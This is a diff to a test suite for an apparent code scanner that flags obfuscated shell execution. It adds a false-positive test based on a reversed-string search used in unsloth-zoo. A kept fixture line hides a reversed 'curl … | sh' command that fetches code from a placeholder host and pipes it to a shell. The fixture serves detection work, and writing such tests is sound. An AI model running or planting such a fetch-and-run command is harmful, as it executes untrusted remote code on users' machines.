@@ -308,3 +308,18 @@ def test_one_element_of_a_reversed_sequence_is_no_decoding() -> None:
     assert "PV-EXE-001" not in ids(run(RULES, picked))
     hidden = py("import os\nos.system('hs | a/dilavni.x//:ptth s- lruc'[::-1])\n", path="acme/__init__.py")
     assert "PV-EXE-001" in ids(run(RULES, hidden))
+
+
+def test_a_reversal_that_only_finds_a_position_decodes_nothing() -> None:
+    """unsloth-zoo finds the last newline of a snippet by searching it reversed, then slices the
+    source it patches and execs: the exec'd text was never reversed."""
+    source = (
+        "import inspect, re\n"
+        "def patch(fn):\n"
+        "    src = inspect.getsource(fn)\n"
+        "    where = re.search(r'\\n+', src[::-1]).span(0)[0]\n"
+        "    src = src[: len(src) - where]\n"
+        "    exec(src, globals())\n"
+    )
+    findings = run(RULES, py(source, path="acme/patching.py", stage=Stage.RUNTIME))
+    assert not [f for f in findings if "decoded" in f.message]
